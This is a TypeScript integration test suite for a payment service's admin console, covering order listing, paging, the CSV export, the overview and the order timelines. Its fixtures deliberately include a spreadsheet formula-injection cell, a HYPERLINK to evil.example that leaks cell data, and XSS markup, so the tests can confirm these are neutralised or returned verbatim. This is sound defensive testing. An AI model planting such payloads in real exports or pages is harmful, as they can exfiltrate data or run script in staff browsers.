import {
  AdminOrderDetailResponseSchema,
  AdminOrderListResponseSchema,
  ORDER_EXPORT_COLUMNS,
  OverviewResponseSchema,
  type AdminOrderListResponse,
  type OverviewResponse,
} from "@pay/core/contract";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { NewOrderRow } from "../../src/db/schema.js";
import type { KyselyPlugin, PluginTransformQueryArgs, PluginTransformResultArgs, QueryResult, RootOperationNode, UnknownRow } from "kysely";
import { csvCell, EXPORT_PAGE_SIZE, exportAdminOrders } from "../../src/services/console/export.js";
import { DATABASES } from "../support/databases.js";
import { createFakeWorld, FAKE_START, FAKE_USER, type FakeProcess, type FakeWorld } from "../support/fake-app.js";
import { pendingOrderRow, processingRefundRow } from "../support/rows.js";

const ADMIN = { authorization: "Bearer admin-token-for-tests-0123456789" };

// FAKE_START is 2026-01-01 12:00 in Beijing; Beijing's 2026-01-01 starts at 2025-12-31T16:00:00.000Z.
const MIDNIGHT = "2025-12-31T16:00:00.000Z";
const JUST_BEFORE = "2025-12-31T15:59:59.999Z";
const LATER = "2026-01-01T03:00:00.000Z";

function order(id: string, overrides: Partial<NewOrderRow> = {}): NewOrderRow {
  const at = overrides.created_at ?? LATER;
  return pendingOrderRow(id, FAKE_USER, { created_at: at, updated_at: at, refunded_fee: 0, reserved_refund_fee: 0, ...overrides });
}

function paidOrder(id: string, paidAt: string, overrides: Partial<NewOrderRow> = {}): NewOrderRow {
  return order(id, { status: "paid", paid_at: paidAt, transaction_id: `4200${id}`, created_at: paidAt, ...overrides });
}

describe.each(DATABASES)("the console's reads on %s, through HTTP", (dialect) => {
  let world: FakeWorld;
  let api: FakeProcess;

  beforeAll(async () => {
    world = await createFakeWorld(dialect);
    api = await world.start({ v2: true, v3: true });
  });
  afterAll(async () => {
    await world.close();
  });

  async function get(path: string): Promise<{ status: number; body: unknown; headers: Headers; text: string }> {
    const response = await fetch(`${api.url}${path}`, { headers: ADMIN });
    const text = await response.text();
    const json = response.headers.get("content-type")?.startsWith("application/json") === true ? (JSON.parse(text) as unknown) : undefined;
    return { status: response.status, body: json, headers: response.headers, text };
  }

  async function list(query: string): Promise<AdminOrderListResponse> {
    const answer = await get(`/api/admin/orders?${query}`);
    expect(answer.status, answer.text).toBe(200);
    return AdminOrderListResponseSchema.parse(answer.body);
  }

  async function insert(rows: NewOrderRow[]): Promise<void> {
    for (let from = 0; from < rows.length; from += 200)
      await world.database.db
        .insertInto("orders")
        .values(rows.slice(from, from + 200))
        .execute();
  }

  describe("the orders list", () => {
    beforeAll(async () => {
      await insert([
        order("LSTbefore01", { created_at: JUST_BEFORE, openid: "o-list-a" }),
        order("LSTmidnight1", { created_at: MIDNIGHT, openid: "o-list-a" }),
        paidOrder("LSTpaid0001", LATER, { openid: null, sub_openid: "o-list-sub" }),
        order("LSTclosed01", { status: "closed", closed_at: LATER, created_at: "2026-01-02T03:00:00.000Z", openid: "o-list-b" }),
        // 25 orders of one instant, for paging across equal created_at.
        ...Array.from({ length: 25 }, (_, n) => order(`LSTsame${String(n).padStart(4, "0")}`, { created_at: "2025-12-20T01:00:00.000Z", openid: "o-list-same" })),
      ]);
    });

    it("filters by Beijing days over created_at: a day starts at Beijing midnight (16:00 UTC the day before)", async () => {
      const day = await list("from=2026-01-01&to=2026-01-01&limit=100");
      expect(day.orders.map((o) => o.id).filter((id) => id.startsWith("LST"))).toEqual(["LSTpaid0001", "LSTmidnight1"]);
      const before = await list("to=2025-12-31&q=o-list-a");
      expect(before.orders.map((o) => o.id)).toEqual(["LSTbefore01"]);
      const from = await list("from=2026-01-02&limit=100");
      expect(from.orders.map((o) => o.id)).toEqual(["LSTclosed01"]);
    });

    it("filters by status, and answers each order as staff see it", async () => {
      const paid = await list("status=paid&from=2026-01-01&to=2026-01-01");
      expect(paid.orders.map((o) => o.id)).toEqual(["LSTpaid0001"]);
      expect(paid.orders[0]).toMatchObject({
        status: "paid",
        userId: FAKE_USER,
        openid: "o-list-sub",
        protocol: "v2",
        totalFee: 6800,
        refundedFee: 0,
        refundableFee: 6800,
        feeType: "CNY",
        description: "Shop-Coffee beans",
        transactionId: "4200LSTpaid0001",
        closedAt: null,
      });
      expect((await list("status=closed&q=o-list-b")).orders.map((o) => o.id)).toEqual(["LSTclosed01"]);
      expect((await list("status=refunded&q=o-list-b")).orders).toEqual([]);
    });

    it("searches by exact order id, transaction id, openid and sub_openid", async () => {
      expect((await list("q=LSTmidnight1")).orders.map((o) => o.id)).toEqual(["LSTmidnight1"]);
      expect((await list("q=4200LSTpaid0001")).orders.map((o) => o.id)).toEqual(["LSTpaid0001"]);
      expect((await list("q=o-list-a")).orders.map((o) => o.id)).toEqual(["LSTmidnight1", "LSTbefore01"]);
      expect((await list("q=o-list-sub")).orders.map((o) => o.id)).toEqual(["LSTpaid0001"]);
      // Exact, not a prefix.
      expect((await list("q=LSTmidnight")).orders).toEqual([]);
    });

    it("pages newest first through orders of one instant without gaps or repeats, and says when there is no next page", async () => {
      const seen: string[] = [];
      let cursor: string | null = null;
      let pages = 0;
      do {
        const page: AdminOrderListResponse = await list(`q=o-list-same&limit=10${cursor === null ? "" : `&cursor=${cursor}`}`);
        seen.push(...page.orders.map((o) => o.id));
        cursor = page.nextCursor;
        pages += 1;
      } while (cursor !== null);
      expect(pages).toBe(3);
      expect(seen).toEqual(Array.from({ length: 25 }, (_, n) => `LSTsame${String(24 - n).padStart(4, "0")}`));
      // A page that ends exactly at the last order has no next cursor.
      expect((await list("q=o-list-same&limit=25")).nextCursor).toBeNull();
    });

    it.each([
      ["status=lost", "status"],
      ["limit=0", "limit"],
      ["limit=101", "limit"],
      ["from=2026-13-01", "from"],
      ["to=yesterday", "to"],
      ["from=2026-01-02&to=2026-01-01", "to"],
      ["cursor=not-a-cursor", "cursor"],
      [`cursor=${Buffer.from(JSON.stringify({ createdAt: LATER })).toString("base64url")}`, "cursor"],
      [`cursor=${Buffer.from(JSON.stringify(["2026-01-01", "LSTpaid0001"])).toString("base64url")}`, "cursor"],
      ["cursor=%2B%2F%3D%3D", "cursor"],
      ["q=", "q"],
      [`q=${"x".repeat(129)}`, "q"],
      ["sort=asc", "query"],
    ])("refuses ?%s with 400 VALIDATION_FAILED naming %s", async (query, field) => {
      const answer = await get(`/api/admin/orders?${query}`);
      expect(answer.status, answer.text).toBe(400);
      expect(answer.body).toMatchObject({ error: { code: "VALIDATION_FAILED", field } });
    });

    it("refuses a caller without the admin token", async () => {
      const answer = await fetch(`${api.url}/api/admin/orders`);
      expect(answer.status).toBe(401);
    });
  });

  describe("the CSV export", () => {
    beforeAll(async () => {
      await insert([
        ...Array.from({ length: 2600 }, (_, n) =>
          order(`CSVbulk${String(n).padStart(5, "0")}`, { created_at: new Date(Date.UTC(2025, 10, 1) + n * 1000).toISOString(), openid: "o-csv-bulk" }),
        ),
        paidOrder("CSVodd00001", "2025-10-01T01:00:00.000Z", { openid: '=HYPERLINK("http://evil.example/?"&A1)', transaction_id: "@SUM(A1)" }),
        order("CSVodd00002", { created_at: "2025-10-01T00:00:00.000Z", openid: null, sub_openid: "a,b\r\nc" }),
        order("CSVodd00003", { created_at: "2025-09-30T23:00:00.000Z", openid: "-1+2", transaction_id: "\tx" }),
      ]);
    });

    it("streams every matching order in pages, newest first, with the contract's columns", async () => {
      const answer = await get("/api/admin/exports/orders?q=o-csv-bulk");
      expect(answer.status).toBe(200);
      expect(answer.headers.get("content-type")).toBe("text/csv; charset=utf-8");
      expect(answer.headers.get("content-disposition")).toBe('attachment; filename="orders-2026-01-01.csv"');
      const lines = answer.text.split("\r\n");
      expect(lines.at(-1)).toBe("");
      expect(lines[0]).toBe(ORDER_EXPORT_COLUMNS.join(","));
      expect(lines).toHaveLength(2600 + 2);
      expect(lines[1]).toBe(`CSVbulk02599,pending,6800,0,CNY,,o-csv-bulk,v2,${new Date(Date.UTC(2025, 10, 1) + 2599 * 1000).toISOString()},,`);
      const ids = lines.slice(1, -1).map((line) => line.split(",")[0]);
      expect(new Set(ids).size).toBe(2600);
      expect(ids.at(-1)).toBe("CSVbulk00000");
    });

    it("reads the orders a page of EXPORT_PAGE_SIZE at a time, each page only once the previous one is sent", async () => {
      const pages: number[] = [];
      const counter: KyselyPlugin = {
        transformQuery: (args: PluginTransformQueryArgs): RootOperationNode => args.node,
        transformResult: (args: PluginTransformResultArgs): Promise<QueryResult<UnknownRow>> => {
          pages.push(args.result.rows.length);
          return Promise.resolve(args.result);
        },
      };
      const outcome = await exportAdminOrders({ ...api.services, db: api.services.db.withPlugin(counter) }, { q: "o-csv-bulk" });
      if (!outcome.ok) throw new Error("the export was refused");
      expect(pages).toEqual([EXPORT_PAGE_SIZE]);
      const iterator = outcome.value[Symbol.asyncIterator]();
      let lines = 0;
      for (let chunk = await iterator.next(); chunk.done !== true; chunk = await iterator.next()) {
        lines += chunk.value.split("\r\n").length - 1;
        // Never more than one page read ahead of what was sent.
        expect(pages.length).toBeLessThanOrEqual(Math.ceil(Math.max(lines - 1, 1) / EXPORT_PAGE_SIZE) + 1);
      }
      expect(lines).toBe(2601);
      expect(pages).toEqual([EXPORT_PAGE_SIZE, EXPORT_PAGE_SIZE, 600]);
    });

    it("quotes per RFC 4180 and neutralises cells a spreadsheet would run as formulas", async () => {
      const answer = await get("/api/admin/exports/orders?from=2025-10-01&to=2025-10-01");
      expect(answer.status).toBe(200);
      expect(answer.text).toBe(
        [
          ORDER_EXPORT_COLUMNS.join(","),
          `CSVodd00001,paid,6800,0,CNY,'@SUM(A1),"'=HYPERLINK(""http://evil.example/?""&A1)",v2,2025-10-01T01:00:00.000Z,2025-10-01T01:00:00.000Z,`,
          `CSVodd00002,pending,6800,0,CNY,,"a,b\r\nc",v2,2025-10-01T00:00:00.000Z,,`,
          `CSVodd00003,pending,6800,0,CNY,'\tx,'-1+2,v2,2025-09-30T23:00:00.000Z,,`,
          "",
        ].join("\r\n"),
      );
    });

    it("takes the list's filters and refuses bad ones before sending anything", async () => {
      const none = await get("/api/admin/exports/orders?status=refunded&q=o-csv-bulk");
      expect(none.text).toBe(`${ORDER_EXPORT_COLUMNS.join(",")}\r\n`);
      for (const [query, field] of [
        ["status=lost", "status"],
        ["limit=10", "query"],
        ["cursor=abc", "query"],
        ["from=2026-01-02&to=2026-01-01", "to"],
      ] as const) {
        const answer = await get(`/api/admin/exports/orders?${query}`);
        expect(answer.status, query).toBe(400);
        expect(answer.body).toMatchObject({ error: { code: "VALIDATION_FAILED", field } });
      }
    });

    it.each([
      ["=1+1", "'=1+1"],
      ["+1", "'+1"],
      ["-1", "'-1"],
      ["@x", "'@x"],
      ["\tx", "'\tx"],
      ["\rx", `"'\rx"`],
      ['say "hi"', '"say ""hi"""'],
      ["a,b", '"a,b"'],
      ["a\nb", '"a\nb"'],
      ["plain 中文", "plain 中文"],
    ])("a cell %j is written %j", (value, written) => {
      expect(csvCell(value)).toBe(written);
    });
  });

  describe("the overview", () => {
    it("sums payments and refunds per currency within the Beijing day, and counts what needs attention", async () => {
      const db = world.database.db;
      await insert([
        paidOrder("OVRusd00001", MIDNIGHT, { fee_type: "USD", total_fee: 1000 }),
        paidOrder("OVRcny00001", "2026-01-01T15:59:59.999Z", { total_fee: 2000 }),
        paidOrder("OVRcny00002", LATER, { status: "refunded", total_fee: 300, refunded_fee: 300, reserved_refund_fee: 300 }),
        // Beijing 2025-12-31 and 2026-01-02: other days.
        paidOrder("OVRcny00003", JUST_BEFORE, { total_fee: 5 }),
        paidOrder("OVRcny00004", "2026-01-01T16:00:00.000Z", { total_fee: 7 }),
      ]);
      await db
        .insertInto("refunds")
        .values([
          processingRefundRow("OVRrf000001", "OVRcny00002", { status: "succeeded", refund_fee: 300, succeeded_at: MIDNIGHT }),
          processingRefundRow("OVRrf000002", "OVRcny00001", { status: "succeeded", refund_fee: 50, succeeded_at: JUST_BEFORE }),
          processingRefundRow("OVRrf000003", "OVRusd00001", { currency: "USD", status: "succeeded", refund_fee: 10, succeeded_at: LATER }),
          processingRefundRow("OVRrf000004", "OVRcny00001", { status: "processing" }),
          processingRefundRow("OVRrf000005", "OVRcny00001", { status: "abnormal" }),
          processingRefundRow("OVRrf000006", "OVRcny00001", { status: "closed" }),
        ])
        .execute();
      const activity = (at: string, kind: "pay_notify" | "refund_notify" | "order_query", outcome: string) => ({
        order_id: null,
        refund_id: null,
        at,
        kind,
        protocol: null,
        outcome,
        reason: null,
        detail: null,
      });
      await db
        .insertInto("order_activity")
        .values([
          activity(MIDNIGHT, "pay_notify", "refused"),
          activity(LATER, "refund_notify", "refused"),
          activity(JUST_BEFORE, "pay_notify", "refused"),
          activity(LATER, "pay_notify", "accepted"),
          activity(LATER, "order_query", "refused"),
        ])
        .execute();
      const run = (date: string, state: "succeeded" | "failed") => ({ bill_date: date, state, trigger: "schedule" as const, attempt: 1, started_at: LATER, updated_at: LATER });
      await db
        .insertInto("reconciliation_runs")
        .values([run("2025-12-31", "failed"), run("2025-12-02", "failed"), run("2025-12-01", "failed"), run("2025-12-30", "succeeded")])
        .execute();
      const item = (date: string, resolution: "flagged" | "recovered") => ({
        bill_date: date,
        class: "amount_mismatch" as const,
        resolution,
        order_id: null,
        refund_id: null,
        transaction_id: null,
        bill_line: null,
        bill_amount: null,
        bill_currency: null,
        our_amount: null,
        our_currency: null,
        detail: "x",
        created_at: LATER,
      });
      await db
        .insertInto("reconciliation_items")
        .values([item("2025-12-30", "flagged"), item("2025-12-30", "flagged"), item("2025-12-30", "recovered"), item("2025-12-02", "flagged"), item("2025-12-01", "flagged")])
        .execute();
      await insertDeliveries(world, "OVRcny00001", [
        { state: "pending", created_at: "2026-01-01T02:00:00.000Z" },
        { state: "pending", created_at: "2026-01-01T01:00:00.000Z" },
        { state: "failed", created_at: "2026-01-01T00:00:00.000Z" },
        { state: "delivered", created_at: "2025-12-31T00:00:00.000Z" },
      ]);

      const answer = await get("/api/admin/overview");
      expect(answer.status, answer.text).toBe(200);
      const overview: OverviewResponse = OverviewResponseSchema.parse(answer.body);
      expect(overview).toEqual({
        date: "2026-01-01",
        // LSTpaid0001 (68.00, paid 11:00 Beijing) is one of them.
        payments: [
          { currency: "CNY", count: 3, amount: 9100 },
          { currency: "USD", count: 1, amount: 1000 },
        ],
        refunds: [
          { currency: "CNY", count: 1, amount: 300 },
          { currency: "USD", count: 1, amount: 10 },
        ],
        refundsOpen: 2,
        refusedNotifies: 2,
        // 2025-12-02 is the 31st day back from 2026-01-01; 2025-12-01 is outside.
        openDifferences: 3,
        failedReconciliations: 2,
        webhooks: { pending: 2, failed: 1, oldestPendingAt: "2026-01-01T01:00:00.000Z" },
      });

      const dayBefore = OverviewResponseSchema.parse((await get("/api/admin/overview?date=2025-12-31")).body);
      expect(dayBefore).toMatchObject({
        date: "2025-12-31",
        payments: [{ currency: "CNY", count: 1, amount: 5 }],
        refunds: [{ currency: "CNY", count: 1, amount: 50 }],
        refusedNotifies: 1,
      });
      // The default day follows the injected clock.
      world.now = Date.parse("2026-01-01T16:00:00.000Z");
      try {
        expect(OverviewResponseSchema.parse((await get("/api/admin/overview")).body)).toMatchObject({ date: "2026-01-02", payments: [{ currency: "CNY", count: 1, amount: 7 }] });
      } finally {
        world.now = FAKE_START;
      }
      expect((await get("/api/admin/overview?date=2026-1-1")).body).toMatchObject({ error: { code: "VALIDATION_FAILED", field: "date" } });
    });
  });

  describe("an order's detail and timeline", () => {
    it("tells a paid-then-refunded order's story oldest first, from every table, with markup returned verbatim", async () => {
      const db = world.database.db;
      const id = "TLNpaidrefund1";
      const created = "2026-01-01T02:00:00.000Z";
      const markup = '<img src=x onerror="alert(1)">';
      await insert([
        order(id, {
          status: "refunded",
          created_at: created,
          items: JSON.stringify([{ productId: "tote", name: `<script>alert("tote")</script>`, unitPrice: 6800, quantity: 1 }]),
          body: markup,
          prepay_id: "wx_prepay_1",
          transaction_id: "4200TLNpaidrefund1",
          paid_at: "2026-01-01T02:01:00.000Z",
          refunded_fee: 6800,
          reserved_refund_fee: 6800,
        }),
      ]);
      const at = (minute: number, second = 0) => `2026-01-01T02:${String(minute).padStart(2, "0")}:${String(second).padStart(2, "0")}.000Z`;
      const activity = (
        when: string,
        kind: "prepay" | "pay_notify" | "refund_notify" | "order_query" | "refund_query",
        outcome: string,
        extra: { reason?: string; detail?: string; refund_id?: string } = {},
      ) => ({
        order_id: id,
        refund_id: extra.refund_id ?? null,
        at: when,
        kind,
        protocol: "v2" as const,
        outcome,
        reason: extra.reason ?? null,
        detail: extra.detail ?? null,
      });
      await db
        .insertInto("order_activity")
        .values([
          activity(created, "prepay", "issued", { detail: "create" }),
          activity(at(0, 50), "pay_notify", "refused", { reason: "SIGNATURE_INVALID", detail: `attach ${markup}` }),
          activity(at(1), "pay_notify", "accepted"),
          activity(at(1, 30), "pay_notify", "duplicate"),
          activity(at(1, 40), "order_query", "paid", { detail: "client" }),
          activity(at(5, 30), "refund_notify", "accepted", { refund_id: "TLNrefund0001" }),
        ])
        .execute();
      await db
        .insertInto("payment_events")
        .values({
          order_id: id,
          source: "notify",
          transaction_id: "4200TLNpaidrefund1",
          total_fee: 6800,
          fee_type: "CNY",
          cash_fee: 6800,
          cash_fee_type: "CNY",
          raw: "{}",
          created_at: at(1),
        })
        .execute();
      await db
        .insertInto("refunds")
        .values(
          processingRefundRow("TLNrefund0001", id, {
            refund_fee: 6800,
            status: "succeeded",
            reason: "customer asked",
            submitted: 1,
            created_at: at(5),
            updated_at: at(5, 30),
            succeeded_at: at(5, 30),
          }),
        )
        .execute();
      await insertDeliveries(world, id, [{ state: "delivered", created_at: at(1), delivered_at: at(2), attempts: 1, last_status: 200 }]);
      await db
        .insertInto("reconciliation_runs")
        .values({ bill_date: "2026-01-01", state: "succeeded", trigger: "schedule", attempt: 1, started_at: LATER, updated_at: LATER })
        .execute();
      await db
        .insertInto("reconciliation_items")
        .values({
          bill_date: "2026-01-01",
          class: "amount_mismatch",
          resolution: "flagged",
          order_id: id,
          refund_id: null,
          transaction_id: "4200TLNpaidrefund1",
          bill_line: 3,
          bill_amount: 6900,
          bill_currency: "CNY",
          our_amount: 6800,
          our_currency: "CNY",
          detail: "the bill says 69.00",
          created_at: "2026-01-02T02:00:00.000Z",
        })
        .execute();

      const answer = await get(`/api/admin/orders/${id}`);
      expect(answer.status, answer.text).toBe(200);
      const detail = AdminOrderDetailResponseSchema.parse(answer.body);
      expect(detail.order).toMatchObject({ id, status: "refunded", refundableFee: 0, description: markup, refundedFee: 6800 });
      expect(detail.items).toEqual([{ productId: "tote", name: `<script>alert("tote")</script>`, unitPrice: 6800, quantity: 1 }]);
      expect(detail.refunds).toEqual([
        { id: "TLNrefund0001", orderId: id, refundFee: 6800, currency: "CNY", status: "succeeded", reason: "customer asked", createdAt: at(5), succeededAt: at(5, 30) },
      ]);
      const none = { outcome: null, reason: null, detail: null, refundId: null, amount: null, currency: null };
      expect(detail.timeline).toEqual([
        { ...none, at: created, kind: "created", detail: markup, amount: 6800, currency: "CNY" },
        { ...none, at: created, kind: "prepay_issued", outcome: "issued", detail: "create" },
        { ...none, at: at(0, 50), kind: "notify", outcome: "refused", reason: "SIGNATURE_INVALID", detail: `attach ${markup}` },
        { ...none, at: at(1), kind: "notify", outcome: "accepted" },
        { ...none, at: at(1), kind: "paid", detail: "notify", amount: 6800, currency: "CNY" },
        { ...none, at: at(1, 30), kind: "notify", outcome: "duplicate" },
        { ...none, at: at(1, 40), kind: "query", outcome: "paid", detail: "client" },
        { ...none, at: at(2), kind: "event_delivery", outcome: "delivered", detail: "order.paid to https://shop.example.com/hooks (1 attempt, last status 200)" },
        { ...none, at: at(5), kind: "refund_requested", refundId: "TLNrefund0001", amount: 6800, currency: "CNY", detail: "customer asked" },
        { ...none, at: at(5, 30), kind: "refund_notify", outcome: "accepted", refundId: "TLNrefund0001" },
        { ...none, at: at(5, 30), kind: "refund_succeeded", outcome: "succeeded", refundId: "TLNrefund0001", amount: 6800, currency: "CNY" },
        {
          ...none,
          at: "2026-01-02T02:00:00.000Z",
          kind: "reconciliation",
          outcome: "amount_mismatch",
          reason: "flagged",
          detail: "2026-01-01: the bill says 69.00",
          amount: 6800,
          currency: "CNY",
        },
      ]);
    });

    it("shows an order from before order_activity with what its row says, and a failed refund", async () => {
      const id = "TLNoldorder01";
      await insert([order(id, { status: "closed", prepay_id: "wx_prepay_old", closed_at: "2026-01-01T03:30:00.000Z" })]);
      await world.database.db
        .insertInto("refunds")
        .values(processingRefundRow("TLNrefund0002", id, { status: "abnormal", last_error: "SYSTEMERROR", created_at: LATER, updated_at: "2026-01-01T03:10:00.000Z" }))
        .execute();
      const detail = AdminOrderDetailResponseSchema.parse((await get(`/api/admin/orders/${id}`)).body);
      expect(detail.order.refundableFee).toBe(6800);
      expect(detail.timeline.map((e) => [e.kind, e.outcome, e.reason])).toEqual([
        ["created", null, null],
        ["prepay_issued", "issued", null],
        ["refund_requested", null, null],
        ["refund_failed", "abnormal", "SYSTEMERROR"],
        ["closed", "closed", null],
      ]);
    });

    it("answers 404 NOT_FOUND for an unknown order and 400 for a malformed id", async () => {
      const missing = await get("/api/admin/orders/P20990101000000000000NOPE");
      expect(missing.status).toBe(404);
      expect(missing.body).toMatchObject({ error: { code: "NOT_FOUND" } });
      const bad = await get("/api/admin/orders/x");
      expect(bad.status).toBe(400);
      expect(bad.body).toMatchObject({ error: { code: "VALIDATION_FAILED", field: "id" } });
    });
  });
});

/** An endpoint (made once) and one delivery of an order.paid event of `orderId` per given state. */
async function insertDeliveries(
  world: FakeWorld,
  orderId: string,
  deliveries: ReadonlyArray<{ state: "pending" | "delivered" | "failed"; created_at: string; delivered_at?: string; attempts?: number; last_status?: number }>,
): Promise<void> {
  const db = world.database.db;
  const endpointId = "we_console000000000000000001";
  const at = new Date(FAKE_START).toISOString();
  await db
    .insertInto("webhook_endpoints")
    .values({
      id: endpointId,
      url: "https://shop.example.com/hooks",
      description: null,
      event_types: '["order.paid"]',
      secret: "whsec_console",
      previous_secret: null,
      previous_secret_expires_at: null,
      enabled: 1,
      source: "api",
      created_at: at,
      updated_at: at,
    })
    .onConflict((oc) => oc.column("id").doNothing())
    .execute();
  for (const [n, delivery] of deliveries.entries()) {
    const eventId = `evt_${orderId.padStart(20, "0").slice(-20)}${String(n).padStart(4, "0")}`;
    const event = await db
      .insertInto("webhook_events")
      .values({ id: eventId, type: "order.paid", order_id: orderId, refund_id: null, payload: "{}", created_at: delivery.created_at, fanned_out: 1 })
      .returning("seq")
      .executeTakeFirstOrThrow();
    await db
      .insertInto("webhook_deliveries")
      .values({
        endpoint_id: endpointId,
        event_id: eventId,
        event_seq: Number(event.seq),
        order_id: orderId,
        state: delivery.state,
        attempts: delivery.attempts ?? 0,
        next_attempt_at: delivery.created_at,
        expires_at: "2026-02-01T00:00:00.000Z",
        last_status: delivery.last_status ?? null,
        delivered_at: delivery.delivered_at ?? null,
        failed_at: delivery.state === "failed" ? delivery.created_at : null,
        created_at: delivery.created_at,
        updated_at: delivery.created_at,
      })
      .execute();
  }
}
